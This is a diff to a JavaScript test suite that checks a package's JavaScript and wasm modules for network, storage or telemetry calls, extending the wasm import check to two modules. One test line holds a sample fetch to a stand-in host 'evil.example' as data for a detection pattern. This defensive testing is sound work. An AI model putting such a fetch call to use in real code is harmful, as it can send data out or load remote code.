@@ -112,12 +112,15 @@ describe("no network, storage or telemetry API in the package's JavaScript", () 
     assert.ok(!GLUE_FETCH.test("module_or_path = fetch('https://evil.example/' + x);"));
   });
 
-  test("the wasm module imports only from its own glue", () => {
-    const wasmFiles = readdirSync(join(pkgDir, "node")).filter((f) => f.endsWith(".wasm"));
-    assert.ok(wasmFiles.length === 1, `${wasmFiles}`);
-    const mod = new WebAssembly.Module(readFileSync(join(pkgDir, "node", wasmFiles[0])));
-    const modules = new Set(WebAssembly.Module.imports(mod).map((i) => i.module));
-    for (const m of modules) assert.match(m, /^(\.\/hcp_segments_bg\.js|__wbindgen_placeholder__|wbg|\.\/snippets\/)/, `unexpected import module ${m}`);
+  test("each wasm module imports only from its own glue", () => {
+    const wasmFiles = readdirSync(join(pkgDir, "node")).filter((f) => f.endsWith(".wasm")).sort();
+    assert.deepEqual(wasmFiles, ["hcp_segments_bg.wasm", "hcp_segments_tools_bg.wasm"]);
+    for (const file of wasmFiles) {
+      const glue = new RegExp(`^(\\./${file.replace(".wasm", "")}\\.js|__wbindgen_placeholder__|wbg|\\./snippets/)`);
+      const mod = new WebAssembly.Module(readFileSync(join(pkgDir, "node", file)));
+      const modules = new Set(WebAssembly.Module.imports(mod).map((i) => i.module));
+      for (const m of modules) assert.match(m, glue, `${file}: unexpected import module ${m}`);
+    }
   });
 });
 
